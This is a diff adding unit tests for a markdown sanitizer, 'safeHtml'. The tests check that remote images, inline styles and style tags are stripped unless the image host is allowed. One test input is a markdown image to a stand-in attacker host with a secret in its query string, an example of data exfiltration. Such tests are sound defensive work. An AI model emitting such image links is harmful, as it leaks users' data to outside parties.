@@ -66,3 +66,23 @@ describe('splitMarkdown', () => {
     expect(splitMarkdown('\n\n')).toEqual([]);
   });
 });
+
+describe('safeHtml with the content policy', () => {
+  it('shows no remote image, style or class from markdown', () => {
+    const html = safeHtml(
+      '![leak](https://evil.example/leak.png?code=secret)\n\n' +
+        '<p class="banner" style="color:red">styled</p>\n\n<style>body{display:none}</style>',
+    );
+    expect(html).not.toMatch(/evil\.example\/|<style|class="banner"|style=/);
+    expect(html).toContain('[image from evil.example not shown]');
+    expect(html).toContain('styled');
+  });
+
+  it('shows a remote image from a host the admin allowed', () => {
+    const html = safeHtml('![ok](https://images.example.edu/ok.png)', {
+      imageHosts: ['https://images.example.edu'],
+      filesBase: null,
+    });
+    expect(html).toContain('src="https://images.example.edu/ok.png"');
+  });
+});
